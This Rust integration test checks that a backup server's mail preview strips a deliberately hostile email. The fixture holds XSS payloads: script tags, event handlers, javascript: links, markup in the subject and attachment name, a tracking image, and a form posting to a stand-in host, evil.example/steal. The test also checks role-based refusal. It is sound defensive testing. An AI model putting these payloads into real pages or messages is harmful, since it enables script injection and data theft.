//! The safe preview end to end: a hostile message (script, event handlers, `javascript:`
//! links, a remote image, markup in its subject and attachment name) put into a simulated
//! mailbox, backed up by the server's job, and previewed through the API: its HTML comes
//! back without any of it, its subject as data, its attachment only as a download; a role
//! that may not read content is refused.

mod common;

use axum::body::Body;
use axum::http::{HeaderMap, Request, StatusCode};
use base64::Engine as _;
use cairn_server::auth::{self, Role};
use http_body_util::BodyExt;
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};
use tower::ServiceExt;

const SUBJECT: &str = "<script>alert('subject')</script> Invoice \"Q4\"";
const ATTACHMENT: &str = "<img src=x onerror=alert(1)>.pdf";

fn hostile() -> String {
    [
        "From: \"Mallory <b>\" <mallory@evil.example>",
        "To: victim@contoso.com",
        &format!("Subject: {SUBJECT}"),
        "Date: Tue, 3 Nov 2026 10:00:00 +0000",
        "Message-ID: <hostile-1@evil.example>",
        "MIME-Version: 1.0",
        "Content-Type: multipart/mixed; boundary=\"outer\"",
        "",
        "--outer",
        "Content-Type: text/html; charset=utf-8",
        "",
        "<html><head><script>alert('head')</script><style>p{background:url(https://evil.example/css.png)}</style></head>",
        "<body onload=\"alert('load')\"><p>Please pay</p>",
        "<img src=\"https://evil.example/track.gif?u=victim\" onerror=\"alert('img')\">",
        "<a href=\"javascript:alert('link')\">pay here</a>",
        "<a href=\"JaVaScRiPt:alert('link2')\">or here</a>",
        "<div onclick=\"alert('div')\" style=\"background:url(https://evil.example/bg.png)\">x</div>",
        "<form action=\"https://evil.example/steal\"><input name=p></form>",
        "<iframe src=\"https://evil.example/frame\"></iframe>",
        "</body></html>",
        "--outer",
        &format!("Content-Type: application/pdf; name=\"{ATTACHMENT}\""),
        &format!("Content-Disposition: attachment; filename=\"{ATTACHMENT}\""),
        "Content-Transfer-Encoding: base64",
        "",
        "JVBERi0xLjQKJSBub3QgcmVhbGx5Cg==",
        "--outer--",
        "",
    ]
    .join("\r\n")
}

fn configure(dir: &Path, sim: &cairn_testkit::SimTenant) -> PathBuf {
    let c = sim.config();
    let secret = dir.join("tenant-secret");
    std::fs::write(&secret, &c.client_secret).unwrap();
    let config = dir.join("config.toml");
    std::fs::write(
        &config,
        format!(
            r#"
repository = "repo"
cache-dir = "cache"
[tenants.contoso]
tenant-id = "{tenant}"
client-id = "{client}"
client-secret-file = "{secret}"
graph-url = "{url}"
login-url = "{url}"
[jobs.nightly]
tenant = "contoso"
every = "1d"
groups = "none"
sites = "none"
services = ["mail"]
"#,
            tenant = c.tenant_id,
            client = c.client_id,
            secret = secret.display(),
            url = sim.url(),
        ),
    )
    .unwrap();
    config
}

async fn call(
    state: &Arc<cairn_server::State>,
    path: &str,
    token: &str,
) -> (StatusCode, HeaderMap, Vec<u8>) {
    let req = Request::builder()
        .uri(path)
        .header("authorization", format!("Bearer {token}"))
        .body(Body::empty())
        .unwrap();
    let resp = cairn_server::app(state.clone()).oneshot(req).await.unwrap();
    let (parts, body) = resp.into_parts();
    let bytes = body.collect().await.unwrap().to_bytes().to_vec();
    (parts.status, parts.headers, bytes)
}

async fn get(state: &Arc<cairn_server::State>, path: &str, token: &str) -> Value {
    let (status, _, body) = call(state, path, token).await;
    let v: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
    assert_eq!(
        status,
        StatusCode::OK,
        "{path}: {}",
        String::from_utf8_lossy(&body)
    );
    v
}

fn q(s: &str) -> String {
    url::form_urlencoded::byte_serialize(s.as_bytes()).collect()
}

/// A server that backed up a mailbox holding the hostile message.
struct Fixture {
    sim: cairn_testkit::SimTenant,
    _dir: tempfile::TempDir,
    state: Arc<cairn_server::State>,
    admin: String,
    auditor: String,
}

async fn backed_up() -> Fixture {
    let sim = cairn_testkit::SimTenant::start(cairn_sim::TenantSpec {
        seed: 5,
        users: 1,
        groups: 0,
        sites: 0,
        mail_per_mailbox: 2,
        events_per_mailbox: 0,
        contacts_per_mailbox: 0,
        files_per_drive: 0,
        items_per_list: 0,
        max_item_size: 8 * 1024,
        ..cairn_sim::TenantSpec::default()
    })
    .await;
    // The message arrives in the mailbox as a restore would put it there: its MIME.
    let graph = reqwest::Client::new();
    let token = sim.token().await;
    let users: Value = graph
        .get(format!("{}/v1.0/users", sim.url()))
        .bearer_auth(&token)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let upn = users["value"][0]["userPrincipalName"]
        .as_str()
        .unwrap()
        .to_string();
    let r = graph
        .post(format!(
            "{}/v1.0/users/{upn}/mailFolders/inbox/messages",
            sim.url()
        ))
        .bearer_auth(&token)
        .header("content-type", "text/plain")
        .body(base64::engine::general_purpose::STANDARD.encode(hostile()))
        .send()
        .await
        .unwrap();
    assert!(r.status().is_success(), "{:?}", r.text().await);

    let dir = tempfile::tempdir().unwrap();
    let state = common::state(&configure(dir.path(), &sim));
    let admin = auth::create(&state.store, "ann", Role::Admin, &Default::default(), None).unwrap();
    let auditor = auth::create(
        &state.store,
        "aud",
        Role::Auditor,
        &Default::default(),
        None,
    )
    .unwrap();
    let job = state.job("nightly").unwrap().unwrap();
    let id = cairn_server::start(&state, job, "api").unwrap().unwrap();
    let deadline = Instant::now() + Duration::from_secs(180);
    loop {
        let run = get(&state, &format!("/api/v1/runs/{id}"), &admin).await;
        if run["status"] != "running" && !state.running.is_running("nightly") {
            assert_eq!(run["status"], "succeeded", "{run}");
            break;
        }
        assert!(Instant::now() < deadline, "the backup did not end: {run}");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }

    Fixture {
        sim,
        _dir: dir,
        state,
        admin,
        auditor,
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_message_previews_harmlessly() {
    let Fixture {
        sim: _sim,
        _dir,
        state,
        admin,
        auditor,
    } = backed_up().await;
    let found = get(&state, "/api/v1/find?q=Invoice", &admin).await;
    let hit = &found["hits"][0];
    assert_eq!(hit["subject"], SUBJECT, "{found}");
    let target = format!("{}@{}", hit["resource"].as_str().unwrap(), hit["last"]);
    let path = hit["path"].as_str().unwrap();
    let item = format!("target={}&path={}", q(&target), q(path));

    let p = get(&state, &format!("/api/v1/preview?{item}"), &admin).await;
    assert_eq!(p["kind"], "message");
    // The subject is data: the string as it was, for the page to set as text.
    assert_eq!(p["headers"]["subject"], SUBJECT);
    assert_eq!(p["headers"]["to"][0], "victim@contoso.com");
    let html = p["html"].as_str().expect("an HTML body").to_string();
    let lower = html.to_ascii_lowercase();
    assert!(lower.contains("please pay"), "{html}");
    for bad in [
        "<script",
        "alert",
        "onload",
        "onerror",
        "onclick",
        " on",
        "javascript:",
        "evil.example",
        "<style",
        "style=",
        "<form",
        "<iframe",
    ] {
        assert!(!lower.contains(bad), "{bad:?} survived in {html}");
    }
    assert!(
        !lower.contains("src=\"http"),
        "a remote source survived: {html}"
    );
    assert_eq!(p["remote_images_blocked"], 1);
    let a = &p["attachments"][0];
    assert_eq!(a["name"], ATTACHMENT);
    assert_eq!(a["content_type"], "application/pdf");
    assert_eq!(a["index"], 0);

    // The attachment: only ever a download, never sniffed into something else.
    let (status, headers, body) = call(
        &state,
        &format!("/api/v1/preview/attachment?{item}&index=0"),
        &admin,
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert!(body.starts_with(b"%PDF-1.4"));
    let disposition = headers["content-disposition"].to_str().unwrap();
    assert!(disposition.starts_with("attachment;"), "{disposition}");
    assert!(!disposition.contains('<') && !disposition.contains("\"<"));
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert_eq!(headers["content-type"], "application/octet-stream");
    let (status, _, _) = call(
        &state,
        &format!("/api/v1/preview/attachment?{item}&index=7"),
        &admin,
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND);

    // The message itself: a download too.
    let (status, headers, body) = call(
        &state,
        &format!("/api/v1/preview/file?{item}&inline=true"),
        &admin,
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(headers["content-type"], "application/octet-stream");
    assert!(String::from_utf8_lossy(&body).contains("Please pay"));

    // Content is not for roles that may only browse; nor for no one.
    let (status, _, _) = call(&state, &format!("/api/v1/preview?{item}"), &auditor).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _, _) = call(&state, &format!("/api/v1/preview?{item}"), "cairn_nope").await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    let (status, _, _) = call(
        &state,
        &format!(
            "/api/v1/preview?target={}&path=mail%2Fnothing.eml",
            q(&target)
        ),
        &admin,
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND);

    // A preview reads content: it is in the audit log.
    let mut previews = 0;
    state
        .audit
        .since(chrono::DateTime::UNIX_EPOCH, &mut |r| {
            previews +=
                usize::from(r.entry.action == "GET /api/v1/preview" && r.entry.actor == "ann");
            true
        })
        .unwrap();
    assert!(previews >= 1);
}

/// The portal in headless Chromium (crates/cairn/tests/browser/portal.mjs): the hostile
/// message found, previewed without anything of it running or loading, and restored
/// beside the original. Needs node, Chromium and `npm install` in that directory (.ci/run
/// does both); elsewhere it says so and passes, in CI it fails.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_portal_in_a_browser() {
    let Some((dir, chromium)) = common::browser() else {
        return;
    };
    let f = backed_up().await;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let app = cairn_server::app(f.state.clone());
    let server = tokio::spawn(async move {
        axum::serve(
            listener,
            app.into_make_service_with_connect_info::<std::net::SocketAddr>(),
        )
        .await
        .unwrap()
    });
    let text = common::node(
        &dir,
        "portal.mjs",
        &chromium,
        &[
            ("CAIRN_URL", format!("http://{addr}/").to_string()),
            ("CAIRN_TOKEN", f.admin.to_string()),
            ("CAIRN_SUBJECT", SUBJECT.to_string()),
            ("CAIRN_ATTACHMENT", ATTACHMENT.to_string()),
        ],
        180,
    )
    .await;
    server.abort();
    assert!(text.contains("ok: the portal previews safely"), "{text}");
}
